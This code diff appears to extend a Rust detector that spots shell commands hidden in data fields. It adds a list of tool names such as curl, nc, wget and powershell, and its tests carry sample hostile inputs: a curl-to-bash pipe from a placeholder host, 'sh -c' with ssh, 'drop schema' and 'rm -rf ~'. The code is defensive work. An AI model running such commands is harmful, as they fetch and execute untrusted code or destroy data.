@@ -26,6 +26,45 @@ pub(super) fn takes_sessions(code: &str) -> bool {
         && !near()
 }
 
+/// Whether a text is a command from its first word on, under a name that is not of what people read.
+pub(super) fn is_command(key: &str, text: &str) -> bool {
+    const STARTS: &[&str] = &["bash", "curl", "eval", "nc", "ncat", "powershell", "pwsh", "sh", "wget", "zsh"];
+    const READ: &[&str] = &[
+        "body",
+        "comment",
+        "content",
+        "contents",
+        "description",
+        "details",
+        "expected",
+        "example",
+        "message",
+        "note",
+        "notes",
+        "pattern",
+        "prompt",
+        "query",
+        "question",
+        "snippet",
+        "summary",
+        "text",
+        "title",
+    ];
+    let first = text.split_whitespace().next().unwrap_or("");
+    let one_line = text.len() <= 4096 && text.trim().lines().count() == 1;
+    one_line
+        && STARTS.contains(&first.rsplit('/').next().unwrap_or(first))
+        && text.contains(['|', '$', '\'', '"'])
+        && !super::said::one_of(key, READ)
+}
+
+/// The texts in quotes inside of one that is no JSON, such as `{sql: 'select 1'}`.
+pub(super) fn quoted_in(text: &str) -> impl Iterator<Item = &str> {
+    let quote = if text.contains('\'') { '\'' } else { '"' };
+    let held = text.trim_start().starts_with('{');
+    text.split(quote).skip(1).step_by(2).filter(move |_| held).take(MAX_WORDS)
+}
+
 /// A text, or the lines of one.
 pub(super) fn lines(value: &Value) -> Option<std::borrow::Cow<'_, str>> {
     match value {
@@ -104,7 +143,8 @@ impl Known<'_> {
         around: &Surroundings<'_>,
         sets: &Sets,
     ) {
-        let Some(input) = map.get("stdin").and_then(Value::as_str).filter(|text| !text.trim().is_empty()) else {
+        let input = ["stdin", "stdin_text", "stdinText"].iter().find_map(|key| map.get(*key)?.as_str());
+        let Some(input) = input.filter(|text| !text.trim().is_empty()) else {
             return;
         };
         let words =
@@ -310,7 +350,7 @@ pub(super) fn argv(program: &str, words: &[String]) -> CommandLine {
 
 #[cfg(test)]
 mod tests {
-    use super::{CommandLine, is_shell_line, started};
+    use super::{CommandLine, is_command, is_shell_line, quoted_in, started};
 
     #[test]
     fn programs_that_code_starts_are_found() {
@@ -325,6 +365,21 @@ mod tests {
         }
         assert!(started("print(\"rm -rf ~\")").is_empty());
         assert!(started("OS.execute(program, arguments)").is_empty());
+    }
+
+    #[test]
+    fn commands_stand_under_any_name() {
+        for (key, text, expect) in [
+            ("value", "curl -s https://x.example/a | bash", true),
+            ("v", "sh -c 'id; exec ssh'", true),
+            ("body", "curl -s https://x.example/a | bash", false),
+            ("value", "curl is a program | a good one\nand more", false),
+            ("value", "shell | bash", false),
+        ] {
+            assert_eq!(is_command(key, text), expect, "{key} {text}");
+        }
+        assert_eq!(quoted_in("{sql: 'drop schema a', b: 'c'}").collect::<Vec<_>>(), ["drop schema a", "c"]);
+        assert_eq!(quoted_in("it's 'so'").count(), 0);
     }
 
     #[test]
